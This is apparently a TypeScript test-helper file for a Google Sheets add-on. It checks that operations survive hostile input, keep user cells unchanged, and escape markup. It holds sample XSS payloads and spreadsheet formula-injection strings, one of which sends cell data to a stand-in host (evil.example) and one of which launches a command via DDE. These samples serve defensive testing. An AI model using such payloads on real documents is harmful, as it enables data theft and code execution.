/**
 * Hostile input for the adversarial suite, and the checks every operation must pass on it:
 *  - nothing crashes: a global of the bundle never throws (`callSafely`);
 *  - every message a person sees is Russian and names no JavaScript internals (`expectRussian`);
 *  - no user cell changes: values and formulas of every cell people wrote (`userCells`);
 *  - no text becomes a formula: the formula store of every sheet holds only the formulas people
 *    wrote themselves (`formulaCells`);
 *  - no hostile markup reaches HTML unescaped: dialogs, the sidebar's answers and letters are scanned
 *    for the payloads verbatim (`expectNoRawMarkup`).
 */
import type { Runtime } from '../../dev/runtime';
import { createRuntime } from '../../dev/runtime';
import { COLUMNS, columnKeyForHeader } from '../../src/domain/columns';
import { DEFAULT_SETTINGS, SETTINGS_HEADERS, settingsSheetRows, type Settings } from '../../src/domain/settings';

export const TODAY = '2026-03-05'; // Thursday; 09.03.2026 is a day off (decree No. 1466)
export const OWNER = 'omkit@shpakovsky.example.ru';
export const COORDINATOR = 'deputy@shpakovsky.example.ru';
export const CLERK = 'school1@shpakovsky.example.ru';
export const TSUR = ['cur@stavregion.example.ru'];

/** Markup that must never reach HTML as it was written (each payload is unique, so a hit names it). */
export const XSS = {
  script: `<script>alert('XSS-1')</script>`,
  img: `<img src=x onerror=alert('XSS-2')>`,
  svg: `"><svg onload=alert('XSS-3')>`,
  attribute: `" onmouseover="alert('XSS-4')" x="`,
  breakout: `</textarea></pre></iframe><script>alert('XSS-5')</script>`,
  javascriptUrl: `javascript:alert('XSS-6')`,
} as const;

/** Text that a spreadsheet would take for a formula if written as it stands. */
export const FORMULA_TEXT = {
  importxml: `=IMPORTXML("https://evil.example/steal?d="&A1,"//a")`,
  hyperlink: `=HYPERLINK("https://evil.example","Нажмите")`,
  cmd: `+cmd|' /C calc'!A0`,
  minus: `-1+1`,
  at: `@SUM(A1)`,
} as const;

export const LONG_TEXT = `${'Очень длинное наименование '.repeat(400)}`.slice(0, 10_000);
export const EMOJI = 'Школа 🏫 👩‍👩‍👧‍👦 № 1 🇷🇺';
export const RTL = '\u202Eанеинемиан\u202C مدرسة עברית';
export const ZERO_WIDTH = 'Отдел\u200Bкультуры\uFEFF';

/** Midnight Moscow time: a date cell. */
export function day(date: string): Date {
  return new Date(`${date}T00:00:00+03:00`);
}

/** Days since 30.12.1899: a day as a bare serial number. */
export function serial(date: string): number {
  return Math.round((Date.parse(`${date}T00:00:00Z`) - Date.UTC(1899, 11, 30)) / 86_400_000);
}

export function settingsRows(overrides: Partial<Settings> = {}): unknown[][] {
  const settings: Settings = {
    ...DEFAULT_SETTINGS,
    tsurRecipients: [...TSUR],
    coordinators: [OWNER, COORDINATOR],
    ...overrides,
  };
  return [[...SETTINGS_HEADERS], ...settingsSheetRows(settings)];
}

export function newRuntime(): Runtime {
  const rt = createRuntime({
    now: new Date(`${TODAY}T09:00:00+03:00`),
    owner: OWNER,
    user: OWNER,
    editors: [COORDINATOR, CLERK],
    mailQuota: 1500,
  });
  rt.loadBundle();
  return rt;
}

/** Writes `rows` from A1 of `name` (created if missing), as people typed them: outside any counted operation. */
export function fillSheet(rt: Runtime, name: string, rows: unknown[][]): GoogleAppsScript.Spreadsheet.Sheet {
  return rt.quietly(() => {
    const sheet = rt.spreadsheet.getSheetByName(name) ?? rt.spreadsheet.insertSheet(name);
    const width = Math.max(...rows.map((row) => row.length));
    const padded = rows.map((row) => [...row, ...Array<unknown>(width - row.length).fill('')]);
    if (sheet.getMaxColumns() < width + 8)
      sheet.insertColumnsAfter(sheet.getMaxColumns(), width + 8 - sheet.getMaxColumns());
    sheet.getRange(1, 1, padded.length, width).setValues(padded);
    return sheet;
  });
}

function sheetCells<T>(rt: Runtime, read: (range: GoogleAppsScript.Spreadsheet.Range) => T[][]): Record<string, T[][]> {
  return rt.quietly(() =>
    Object.fromEntries(
      rt.spreadsheet
        .getSheets()
        .map((sheet) => [sheet.getName(), read(sheet.getRange(1, 1, sheet.getMaxRows(), sheet.getMaxColumns()))]),
    ),
  );
}

/** Every formula in the spreadsheet: 'Sheet!R1C1' → formula. */
export function formulaCells(rt: Runtime): Record<string, string> {
  const out: Record<string, string> = {};
  for (const [name, formulas] of Object.entries(sheetCells(rt, (range) => range.getFormulas()))) {
    formulas.forEach((row, r) =>
      row.forEach((formula, c) => {
        // «Обзор» below its first row holds the add-on's own formulas (src/domain/overview.ts); row 1, where the
        // register's headers are copied, must hold none.
        if (name === 'Обзор' && r > 0) return;
        if (formula !== '') out[`${name}!R${r + 1}C${c + 1}`] = formula;
      }),
    );
  }
  return out;
}

const plain = (value: unknown): unknown =>
  Object.prototype.toString.call(value) === '[object Date]' ? `Date(${(value as Date).toISOString()})` : value;

/**
 * The cells people wrote on `sheetName`: every column whose header is not one of the add-on's service or
 * computed columns (the first of a duplicated header is ours, a later one is theirs), values and formulas,
 * rows 1..`rows`.
 */
export function userCells(rt: Runtime, sheetName: string, headerRow = 1): Record<string, unknown> {
  return rt.quietly(() => {
    const sheet = rt.spreadsheet.getSheetByName(sheetName);
    if (sheet === null) return {};
    const width = sheet.getLastColumn();
    const rows = Math.max(sheet.getLastRow(), headerRow);
    const header = sheet.getRange(headerRow, 1, 1, width).getValues()[0] ?? [];
    const seen = new Set<string>();
    const ours = header.map((title) => {
      const key = columnKeyForHeader(title);
      if (key === null || seen.has(key)) return false;
      seen.add(key);
      return COLUMNS.find((column) => column.key === key)?.role !== 'input';
    });
    const range = sheet.getRange(1, 1, rows, width);
    const values = range.getValues();
    const formulas = range.getFormulas();
    const out: Record<string, unknown> = {};
    values.forEach((row, r) =>
      row.forEach((value, c) => {
        if (ours[c] && r + 1 > headerRow) return;
        out[`R${r + 1}C${c + 1}`] = formulas[r]?.[c] ? `formula ${formulas[r]?.[c]}` : plain(value);
      }),
    );
    return out;
  });
}

/** Every payload of XSS found verbatim in `html`. */
export function rawMarkup(html: string): string[] {
  const found: string[] = Object.values(XSS).filter(
    (payload) => payload !== XSS.javascriptUrl && html.includes(payload),
  );
  if (/href\s*=\s*["']?\s*javascript:/i.test(html)) found.push('href=javascript:');
  return found;
}

export function expectNoRawMarkup(html: string | undefined, where: string): void {
  expect({ where, found: rawMarkup(html ?? '') }).toEqual({ where, found: [] });
}

/** What a person must never read in a message: JavaScript internals or an English stack. */
const INTERNALS =
  /TypeError|ReferenceError|RangeError|SyntaxError|is not a function|Cannot read|undefined|\bnull\b|NaN|\[object /;

export function expectRussian(message: string | undefined, where: string): void {
  const text = message ?? '';
  expect({ where, text, russian: /[А-Яа-яЁё]/.test(text), internals: INTERNALS.test(text) }).toEqual({
    where,
    text,
    russian: true,
    internals: false,
  });
}

/** Runs a global of the bundle; returns its result, and fails the test with the operation's name if it throws. */
export function callSafely<T>(where: string, fn: () => T): T {
  try {
    return fn();
  } catch (error) {
    throw new Error(`${where} threw: ${error instanceof Error ? `${error.name}: ${error.message}` : String(error)}`);
  }
}

/** Every alert, toast and dialog from index `since` on. */
export function messagesSince(
  rt: Runtime,
  since: { alerts: number; toasts: number; panels: number },
): { alerts: string[]; toasts: string[]; panels: string[] } {
  return {
    alerts: rt.ui.alerts.slice(since.alerts).map((alert) => alert.prompt),
    toasts: rt.spreadsheet.toasts.slice(since.toasts).map((toast) => toast.message),
    panels: rt.ui.panels.slice(since.panels).map((panel) => panel.html),
  };
}

export function mark(rt: Runtime): { alerts: number; toasts: number; panels: number } {
  return { alerts: rt.ui.alerts.length, toasts: rt.spreadsheet.toasts.length, panels: rt.ui.panels.length };
}

/** The header row of a sheet: the first of its top five rows naming an organization column. */
export function headerRowOf(rt: Runtime, name: string): number {
  const top = rt.quietly(() => {
    const sheet = rt.spreadsheet.getSheetByName(name);
    return sheet === null ? [] : sheet.getRange(1, 1, 5, Math.max(1, sheet.getLastColumn())).getValues();
  });
  const index = top.findIndex((row) => row.some((cell) => /организац/i.test(String(cell))));
  return index < 0 ? 1 : index + 1;
}

/** Every cell of a sheet: values, formulas and notes. */
export function wholeSheet(rt: Runtime, name: string): unknown {
  return rt.quietly(() => {
    const sheet = rt.spreadsheet.getSheetByName(name);
    if (sheet === null) return null;
    const range = sheet.getRange(1, 1, sheet.getMaxRows(), sheet.getMaxColumns());
    return { values: range.getValues(), formulas: range.getFormulas(), notes: range.getNotes() };
  });
}

/**
 * Runs one operation and checks what must hold around any: it does not throw; the cells people wrote on
 * `sheets` keep their values and formulas; no formula appears or changes anywhere; sheets named in
 * `untouched` do not change at all; every alert and toast is Russian; every dialog is free of raw markup.
 */
export function operate<T>(
  rt: Runtime,
  where: string,
  operation: () => T,
  options: { sheets: readonly string[]; untouched?: readonly string[] },
): { result: T; messages: ReturnType<typeof messagesSince> } {
  const since = mark(rt);
  const before = options.sheets.map((name) => userCells(rt, name, headerRowOf(rt, name)));
  const untouched = (options.untouched ?? []).map((name) => wholeSheet(rt, name));
  const formulas = formulaCells(rt);
  const result = callSafely(where, operation);
  const messages = messagesSince(rt, since);
  options.sheets.forEach((name, index) => {
    const after = userCells(rt, name, headerRowOf(rt, name));
    for (const [cell, value] of Object.entries(before[index] ?? {}))
      expect({ where, name, cell, value: after[cell] }).toEqual({ where, name, cell, value });
  });
  expect({ where, formulas: formulaCells(rt) }).toEqual({ where, formulas });
  (options.untouched ?? []).forEach((name, index) => expect(wholeSheet(rt, name)).toEqual(untouched[index]));
  for (const text of [...messages.alerts, ...messages.toasts]) expectRussian(text, where);
  for (const html of messages.panels) expectNoRawMarkup(html, where);
  return { result, messages };
}
